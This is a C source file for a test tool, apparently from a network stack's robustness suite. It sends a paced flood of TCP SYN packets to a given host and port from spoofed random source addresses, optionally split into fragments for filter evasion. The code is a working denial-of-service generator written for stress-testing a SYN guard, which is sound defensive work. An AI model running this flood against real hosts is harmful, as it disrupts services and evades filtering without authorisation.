/**
 * @file
 * Flood a TCP port with SYNs from spoofed sources, for the robustness test
 * of the SYN guard (tests/tap_robust_synflood.sh) and its benchmark row. A
 * plain POSIX host tool: one raw IPv4 socket (root, inside the test's own
 * network namespace), no lwIP.
 *
 *   syn_flood [options] HOST
 *
 * Each SYN comes from a random address of 10.0.0.0/8 (or from --source),
 * a random port and a random initial sequence number, paced to --rate per
 * second for --seconds. With --frag each goes as two IPv4 fragments, the
 * first holding only 8 bytes of the TCP header (ports and sequence number,
 * not the flags), as a filter evasion would. The result is one line on stdout, parsed by the
 * tests:
 *   syn_flood: sent N errors E seconds T rate R
 * errors: sendto() failures (the SYN did not leave); rate: SYNs sent per
 * second, measured.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define SYN_FLOOD_IPHL  20
#define SYN_FLOOD_TCPHL 20
#define SYN_FLOOD_LEN   (SYN_FLOOD_IPHL + SYN_FLOOD_TCPHL)
/** Sends between two looks at the clock. */
#define SYN_FLOOD_BURST 16

struct syn_flood_opts {
  struct in_addr dst;
  struct in_addr src;       /**< --source, or INADDR_ANY: random 10.x.y.z */
  unsigned port;
  unsigned long rate;
  unsigned seconds;
  unsigned seed;
  int frag;                 /**< --frag: two fragments per SYN */
};

/** 24 random bits; rand_r is reproducible from --seed and enough here. */
static uint32_t
syn_flood_rand(unsigned *state)
{
  return (uint32_t)rand_r(state) & 0x00ffffffu;
}

static double
syn_flood_now(void)
{
  struct timespec ts;

  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/** The Internet checksum of n bytes (even n) plus a starting sum. */
static uint16_t
syn_flood_cksum(const uint8_t *p, size_t n, uint32_t sum)
{
  size_t i;

  for (i = 0; i + 1 < n; i += 2) {
    sum += (uint32_t)((p[i] << 8) | p[i + 1]);
  }
  while (sum >> 16) {
    sum = (sum & 0xffff) + (sum >> 16);
  }
  return (uint16_t)~sum;
}

static void
syn_flood_put16(uint8_t *p, uint16_t v)
{
  p[0] = (uint8_t)(v >> 8);
  p[1] = (uint8_t)v;
}

/** One SYN from src:sport with sequence number isn, checksums filled. */
static void
syn_flood_build(uint8_t *pkt, const struct syn_flood_opts *o, uint32_t src, uint16_t sport, uint32_t isn)
{
  uint8_t *tcp = pkt + SYN_FLOOD_IPHL;
  uint8_t pseudo[12];
  uint32_t sum = 0;
  size_t i;

  memset(pkt, 0, SYN_FLOOD_LEN);
  pkt[0] = 0x45;
  syn_flood_put16(pkt + 2, SYN_FLOOD_LEN);
  pkt[8] = 64;
  pkt[9] = IPPROTO_TCP;
  memcpy(pkt + 12, &src, 4);
  memcpy(pkt + 16, &o->dst.s_addr, 4);
  syn_flood_put16(pkt + 10, syn_flood_cksum(pkt, SYN_FLOOD_IPHL, 0));
  syn_flood_put16(tcp, sport);
  syn_flood_put16(tcp + 2, (uint16_t)o->port);
  syn_flood_put16(tcp + 4, (uint16_t)(isn >> 16));
  syn_flood_put16(tcp + 6, (uint16_t)isn);
  tcp[12] = (SYN_FLOOD_TCPHL / 4) << 4;
  tcp[13] = 0x02;
  syn_flood_put16(tcp + 14, 65535);
  memcpy(pseudo, pkt + 12, 8);
  pseudo[8] = 0;
  pseudo[9] = IPPROTO_TCP;
  syn_flood_put16(pseudo + 10, SYN_FLOOD_TCPHL);
  for (i = 0; i < sizeof(pseudo); i += 2) {
    sum += (uint32_t)((pseudo[i] << 8) | pseudo[i + 1]);
  }
  syn_flood_put16(tcp + 16, syn_flood_cksum(tcp, SYN_FLOOD_TCPHL, sum));
}

static void
syn_flood_usage(FILE *out)
{
  fprintf(out,
    "usage: syn_flood [options] HOST\n"
    "  --port N      TCP port to flood (7)\n"
    "  --rate N      SYNs per second (20000; 1..1000000)\n"
    "  --seconds N   how long (10; 1..600)\n"
    "  --source A    one source address instead of random ones in 10.0.0.0/8\n"
    "  --seed N      seed of sources, ports and sequence numbers (1)\n"
    "  --frag        each SYN in two IPv4 fragments, the first of 8 TCP bytes\n"
    "  -h, --help    this text\n");
}

static int
syn_flood_num(const char *opt, const char *s, unsigned long lo, unsigned long hi, unsigned long *out)
{
  char *end;

  errno = 0;
  *out = strtoul(s, &end, 10);
  if (s[0] < '0' || s[0] > '9' || *end != '\0' || errno != 0 || *out < lo || *out > hi) {
    fprintf(stderr, "syn_flood: invalid %s '%s': expected %lu..%lu\n", opt, s, lo, hi);
    return -1;
  }
  return 0;
}

static int
syn_flood_parse(int argc, char **argv, struct syn_flood_opts *o)
{
  static const struct option longopts[] = {
    {"port", required_argument, NULL, 'p'},
    {"rate", required_argument, NULL, 'r'},
    {"seconds", required_argument, NULL, 's'},
    {"source", required_argument, NULL, 'S'},
    {"seed", required_argument, NULL, 'e'},
    {"frag", no_argument, NULL, 'f'},
    {"help", no_argument, NULL, 'h'},
    {NULL, 0, NULL, 0}
  };
  unsigned long v;
  int c;

  memset(o, 0, sizeof(*o));
  o->port = 7;
  o->rate = 20000;
  o->seconds = 10;
  o->seed = 1;
  while ((c = getopt_long(argc, argv, "h", longopts, NULL)) != -1) {
    switch (c) {
    case 'p':
      if (syn_flood_num("--port", optarg, 1, 65535, &v) != 0) return -1;
      o->port = (unsigned)v;
      break;
    case 'r':
      if (syn_flood_num("--rate", optarg, 1, 1000000, &v) != 0) return -1;
      o->rate = v;
      break;
    case 's':
      if (syn_flood_num("--seconds", optarg, 1, 600, &v) != 0) return -1;
      o->seconds = (unsigned)v;
      break;
    case 'S':
      if (inet_pton(AF_INET, optarg, &o->src) != 1) {
        fprintf(stderr, "syn_flood: invalid --source '%s'\n", optarg);
        return -1;
      }
      break;
    case 'e':
      if (syn_flood_num("--seed", optarg, 1, 0xffffffffUL, &v) != 0) return -1;
      o->seed = (unsigned)v;
      break;
    case 'f':
      o->frag = 1;
      break;
    case 'h':
      syn_flood_usage(stdout);
      exit(0);
    default:
      return -1;
    }
  }
  if (optind != argc - 1 || inet_pton(AF_INET, argv[optind], &o->dst) != 1) {
    fprintf(stderr, "syn_flood: one IPv4 HOST expected\n");
    return -1;
  }
  return 0;
}

/** Send pkt (a whole SYN), or with --frag its two fragments; 0 or -1. */
static int
syn_flood_send(int fd, const struct syn_flood_opts *o, const uint8_t *pkt, const struct sockaddr_in *to,
               uint16_t id)
{
  uint8_t f1[SYN_FLOOD_IPHL + 8], f2[SYN_FLOOD_LEN - 8];

  if (!o->frag) {
    return sendto(fd, pkt, SYN_FLOOD_LEN, 0, (const struct sockaddr *)to, sizeof(*to)) == SYN_FLOOD_LEN
           ? 0 : -1;
  }
  memcpy(f1, pkt, SYN_FLOOD_IPHL);
  memcpy(f1 + SYN_FLOOD_IPHL, pkt + SYN_FLOOD_IPHL, 8);
  syn_flood_put16(f1 + 2, sizeof(f1));
  syn_flood_put16(f1 + 4, id);
  syn_flood_put16(f1 + 6, 0x2000);
  syn_flood_put16(f1 + 10, 0);
  syn_flood_put16(f1 + 10, syn_flood_cksum(f1, SYN_FLOOD_IPHL, 0));
  memcpy(f2, f1, SYN_FLOOD_IPHL);
  memcpy(f2 + SYN_FLOOD_IPHL, pkt + SYN_FLOOD_IPHL + 8, SYN_FLOOD_TCPHL - 8);
  syn_flood_put16(f2 + 2, sizeof(f2));
  syn_flood_put16(f2 + 6, 1);
  syn_flood_put16(f2 + 10, 0);
  syn_flood_put16(f2 + 10, syn_flood_cksum(f2, SYN_FLOOD_IPHL, 0));
  if (sendto(fd, f1, sizeof(f1), 0, (const struct sockaddr *)to, sizeof(*to)) != (ssize_t)sizeof(f1) ||
      sendto(fd, f2, sizeof(f2), 0, (const struct sockaddr *)to, sizeof(*to)) != (ssize_t)sizeof(f2)) {
    return -1;
  }
  return 0;
}

int
main(int argc, char **argv)
{
  struct syn_flood_opts o;
  struct sockaddr_in to;
  uint8_t pkt[SYN_FLOOD_LEN];
  unsigned long sent = 0, errors = 0;
  unsigned rng;
  double t0, now;
  int fd;

  if (syn_flood_parse(argc, argv, &o) != 0) {
    syn_flood_usage(stderr);
    return 2;
  }
  fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    perror("syn_flood: raw socket (root needed)");
    return 1;
  }
  memset(&to, 0, sizeof(to));
  to.sin_family = AF_INET;
  to.sin_addr = o.dst;
  rng = o.seed;
  t0 = now = syn_flood_now();
  while (now - t0 < o.seconds) {
    unsigned long due = (unsigned long)((now - t0) * (double)o.rate);
    int i;

    if (sent >= due) {
      struct timespec pause = {0, 100000};

      nanosleep(&pause, NULL);
      now = syn_flood_now();
      continue;
    }
    for (i = 0; i < SYN_FLOOD_BURST && sent < due; i++) {
      uint32_t src = o.src.s_addr != INADDR_ANY ? o.src.s_addr
                     : htonl(0x0a000000u | syn_flood_rand(&rng));
      uint16_t sport = (uint16_t)(1024 + syn_flood_rand(&rng) % 64000);

      syn_flood_build(pkt, &o, src, sport, syn_flood_rand(&rng) << 8 | syn_flood_rand(&rng));
      if (syn_flood_send(fd, &o, pkt, &to, (uint16_t)sent) == 0) {
        sent++;
      } else {
        errors++;
      }
      if (sent == 0 && errors >= 1000) {
        perror("syn_flood: sendto");
        return 1;
      }
    }
    now = syn_flood_now();
  }
  close(fd);
  printf("syn_flood: sent %lu errors %lu seconds %.3f rate %.0f\n", sent, errors, now - t0,
         (double)sent / (now - t0));
  return 0;
}
